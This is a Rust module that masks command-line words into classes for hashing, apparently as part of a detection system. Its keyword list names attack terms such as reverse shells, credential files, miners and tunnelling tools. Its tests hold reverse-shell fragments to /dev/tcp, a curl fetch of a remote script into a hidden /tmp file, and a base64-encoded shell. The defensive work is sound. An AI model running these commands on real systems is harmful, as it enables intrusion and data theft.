//! Words of a command line, masked before they are hashed: what says how a program is used stays, what says
//! whose machine it is goes.
//!
//! Options stay (values cut off), and so do shell operators and the words of a closed list: programs, their
//! sub-commands, and what scripts reach for (`socket`, `pty`, `NOPASSWD`). Paths become their class; numbers,
//! hexadecimal, base64, addresses, URLs and every other word become a sign of their kind.

use std::collections::BTreeSet;

use super::paths::Place;
use super::programs::Program;

/// Bytes of a command line that are looked at.
const MAX_BYTES: usize = 4096;
/// Words kept of a command line.
const MAX_WORDS: usize = 96;

/// Sub-commands, key words and names that mean the same on every machine.
const LISTED: &str = "\
    install remove purge update upgrade dist-upgrade full-upgrade autoremove autoclean clean download list show policy \
    search start stop restart reload status enable disable enable-linger mask unmask daemon-reload is-active is-enabled try-restart \
    clone pull push fetch commit checkout add init gc log diff status branch merge rebase config remote build run test \
    exec compose ps images logs inspect cp rm apply get describe delete create \
    import from as def class lambda exec eval system popen subprocess socket connect bind listen accept recv send \
    dup dup2 fileno pty spawn os sys call check_output Popen shell urllib requests urlopen urlretrieve base64 b64decode b64encode \
    b64 decode encode zlib marshal codecs ctypes json http http.server SimpleHTTPServer fsockopen proc_open passthru shell_exec \
    TCPSocket UNIXSocket AF_INET SOCK_STREAM Socket IO getenv setuid setgid setreuid setresuid execve execl execvp fork chmod chown \
    open read write print echo cat system posix setsockopt mmap memfd_create \
    if then else elif fi for in do done while until case esac function return exit set unset export source alias trap \
    true false null none yes no all root nobody www-data daemon sudo ALL NOPASSWD nopasswd wheel \
    password passwd shadow secret token apikey api_key credential credentials private key id_rsa id_ed25519 \
    authorized_keys known_hosts aws kube config LD_PRELOAD PATH HISTFILE HISTSIZE HISTCONTROL IFS HOME USER \
    history wtmp btmp lastlog auth.log syslog secure audit preload crontab cron cron.d reboot hourly daily weekly monthly \
    PermitRootLogin StrictHostKeyChecking UserKnownHostsFile BatchMode ProxyCommand LocalForward RemoteForward \
    select insert drop table database user grant superuser copy program where union dump COPY PROGRAM SELECT FROM WHERE \
    stratum pool miner monero xmr donate-level threads cpu hashrate encrypt decrypt enc aes-256-cbc aes salt pass pbkdf2 \
    rsa ransom readme bitcoin recover locked encrypted upload exfil payload beacon shell reverse backdoor implant \
    keygen scan brute force sweep tunnel proxy socks chisel ngrok frp dns txt nslookup icmp \
    nameserver master slave worker process manager accepted sshd systemd internal-sftp privs session opened closed \
    -rwsr perm 4000 6000 suid setcap cap_setuid capabilities gtfobins type d f l name iname exec size mtime newer delete print0 \
    begin end configure postinst preinst prerm postrm triggered abort-upgrade deconfigure unpack";

static WORDS: std::sync::LazyLock<rustc_hash::FxHashSet<&'static str>> =
    std::sync::LazyLock::new(|| LISTED.split_whitespace().collect());

/// The masked words of a command line, sorted, each once.
pub fn words<'a>(arguments: impl IntoIterator<Item = &'a str>) -> BTreeSet<String> {
    let mut words = BTreeSet::new();
    let mut room = MAX_BYTES;
    for argument in arguments {
        let argument = &argument[..argument.floor_char_boundary(room)];
        room -= argument.len();
        collect(argument, &mut words);
        if room == 0 || words.len() >= MAX_WORDS {
            break;
        }
    }
    words
}

fn collect(argument: &str, words: &mut BTreeSet<String>) {
    // Quotes, blanks and brackets separate; operators separate and count.
    let breaks = |c: char| c.is_whitespace() || "\"'`|&;<>$(){}[],!\\".contains(c);
    let mut rest = argument;
    while !rest.is_empty() && words.len() < MAX_WORDS {
        let end = rest.find(breaks).unwrap_or(rest.len());
        if end > 0 {
            word(&rest[..end], words);
            rest = &rest[end..];
            continue;
        }
        let end = rest.find(|c: char| !"|&;<>$(`".contains(c)).unwrap_or(rest.len());
        if end > 0 {
            words.insert(rest[..end.min(3)].to_owned());
            rest = &rest[end..];
        } else {
            rest = &rest[rest.chars().next().map_or(1, char::len_utf8)..];
        }
    }
}

fn word(text: &str, words: &mut BTreeSet<String>) {
    if let Some(option) = text.strip_prefix('-').filter(|o| !o.is_empty() && *o != "-") {
        let (name, value) = option.split_once('=').map_or((option, None), |(name, value)| (name, Some(value)));
        let long = name.starts_with('-');
        // A short option may have its value stuck to it (`-pSecret`, `-j8`, `-oProxyCommand`).
        let kept = if long || name.len() <= 5 {
            &name[..name.floor_char_boundary(28)]
        } else {
            &name[..name.floor_char_boundary(1)]
        };
        words.insert(format!("-{}", mask_digits(kept)));
        if let Some(value) = value {
            word(value, words);
        }
        if !long && name.len() > 5 {
            word(&name[name.floor_char_boundary(1)..], words);
        }
        return;
    }
    if text.contains("://") {
        words.insert("URL".to_owned());
        return;
    }
    if let Some((name, value)) = text.split_once('=')
        && !name.is_empty()
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
        && !is_base64(text)
    {
        word(name, words);
        words.insert("=".to_owned());
        if !value.is_empty() {
            word(value, words);
        }
        return;
    }
    if !text.contains('/') && text.contains('.') && !WORDS.contains(text) {
        words.extend(text.split('.').filter(|piece| WORDS.contains(piece)).map(str::to_owned));
    }
    words.insert(class(text));
}

/// One word's class, or the word itself where it is listed.
fn class(text: &str) -> String {
    let text = text.trim_matches([':', '.', '%', '"', '=', '?']);
    if WORDS.contains(text) {
        return text.to_owned();
    }
    if text.is_empty() {
        return ".".to_owned();
    }
    if text.bytes().all(|b| b.is_ascii_digit() || b == b'.' || b == b':' || b == b'-') {
        return if text.bytes().filter(|b| *b == b'.').count() == 3 { "HOST".to_owned() } else { "#".to_owned() };
    }
    if text.starts_with('/') || text.starts_with("~/") {
        let text = if let Some(rest) = text.strip_prefix('~') { format!("/home/~{rest}") } else { text.to_owned() };
        // Base64 may begin with a slash; a path has short names.
        if text.len() < 48 || !is_base64(&text) {
            let place = Place::of(&text);
            if place.is_system_bin()
                && let Some(name) = Program::at(&text).name
            {
                return format!("bin/{name}");
            }
            return format!("{}.{}", place.token(), place.extension);
        }
    }
    if text.len() >= 12 && text.bytes().all(|b| b.is_ascii_hexdigit()) {
        return "HEX".to_owned();
    }
    if is_base64(text) {
        return "B64".to_owned();
    }
    if let Some(mode) = mode(text) {
        return mode;
    }
    if text.contains('@') || text.parse::<std::net::IpAddr>().is_ok() {
        return "HOST".to_owned();
    }
    if text.contains('/') {
        // Relative: its extension, and whether it climbs or hides, is all it has in common with other machines'.
        let sign = if text.contains("..") {
            "../"
        } else if text.contains("/.") || text.starts_with('.') {
            "./"
        } else {
            ""
        };
        return format!("rel/{sign}{}", Place::of(text).extension);
    }
    if let Some(name) = Program::called(text).name {
        return name.to_owned();
    }
    match Place::of(text).extension {
        "none" | "other" if text.contains('.') => "NAME".to_owned(),
        "none" => "w".to_owned(),
        extension => format!("w.{extension}"),
    }
}

/// `+x`, `u+s`, `go-rwx`: modes in symbols. Octal ones are numbers, and the system call tells of them.
fn mode(text: &str) -> Option<String> {
    let (who, what) = text.split_at(text.find(['+', '-'])?);
    let fits = who.bytes().all(|b| b"ugoa".contains(&b))
        && what.len() > 1
        && what.len() <= 5
        && what[1..].bytes().all(|b| b"rwxXst".contains(&b));
    fits.then(|| text.to_owned())
}

fn is_base64(text: &str) -> bool {
    let body = text.trim_end_matches('=');
    text.len() >= 24
        && body.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
        && body.bytes().any(|b| b.is_ascii_uppercase())
        && body.bytes().any(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        && body.bytes().filter(|b| *b == b'/').count() * 12 <= body.len()
}

fn mask_digits(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if !c.is_ascii_digit() {
            out.push(c);
        } else if !out.ends_with('#') {
            out.push('#');
        }
    }
    out
}

/// Shannon entropy of `text`'s bytes, in whole bits, rounded down.
pub fn entropy_bits(text: &[u8]) -> u32 {
    let mut counts = [0u64; 256];
    for byte in text {
        counts[*byte as usize] += 1;
    }
    // In 64ths of a bit and integers, so that every machine agrees.
    let total = text.len() as u64;
    if total == 0 {
        return 0;
    }
    let sum: u64 = counts.iter().filter(|c| **c > 0).map(|&c| c * (log2_64ths(total) - log2_64ths(c))).sum();
    (sum / total / 64) as u32
}

/// `64 × log2(n)`, within 2: whole part by leading zeros, rest linear.
fn log2_64ths(n: u64) -> u64 {
    let whole = u64::from(n.ilog2());
    whole * 64 + ((n << 6) >> whole) - 64
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn masked(argv: &[&str]) -> Vec<String> {
        words(argv.iter().copied()).into_iter().collect()
    }

    #[test]
    fn keeps_use_and_drops_identity() {
        assert_eq!(masked(&["-i", ">&", "/dev/tcp/203.0.113.9/4444", "0>&1"]), ["#", "-i", "/dev/tcp.none", ">&"]);
        assert_eq!(
            masked(&["-fsSL", "http://10.20.0.3:8000/run.sh", "-o", "/tmp/.x"]),
            ["-fsSL", "-o", "/tmp!hid.none", "URL"]
        );
        assert_eq!(masked(&["u+s", "/usr/local/bin/backup-helper"]), ["/usr/local/bin.none", "u+s"]);
        assert_eq!(masked(&["-pHunter2x", "shop", "alice@db-02"]), ["-p", "HOST", "w"]);
        assert_eq!(
            masked(&["-c", "import socket,subprocess,os;s=socket.socket()"]),
            ["(", "-c", ";", "=", "NAME", "import", "os", "socket", "subprocess", "w"]
        );
        assert_eq!(masked(&["YmFzaCAtaSA+JiAvZGV2L3RjcC8xLzIK"]), ["B64"]);
        assert_eq!(masked(&["deadbeefdeadbeef", "2026-11-21"]), ["#", "HEX"]);
        assert_eq!(
            masked(&["/usr/bin/python3.11", "--no-check-certificate"]),
            ["--no-check-certificate", "bin/python"]
        );
    }

    #[test]
    fn entropy() {
        assert_eq!(entropy_bits(b""), 0);
        assert_eq!(entropy_bits(b"aaaaaaaa"), 0);
        assert_eq!(entropy_bits(b"abababab"), 1);
        assert_eq!(entropy_bits(&(0..=255).collect::<Vec<u8>>()), 8);
    }

    proptest! {
        #[test]
        fn any_text_is_bounded(argv in proptest::collection::vec(".{0,200}", 0..8)) {
            let words = words(argv.iter().map(String::as_str));
            prop_assert!(words.len() <= MAX_WORDS + 3);
            // Nothing that is not from a closed list or an option can be longer than the longest class.
            prop_assert!(words.iter().all(|w| w.len() <= 64));
        }
    }
}
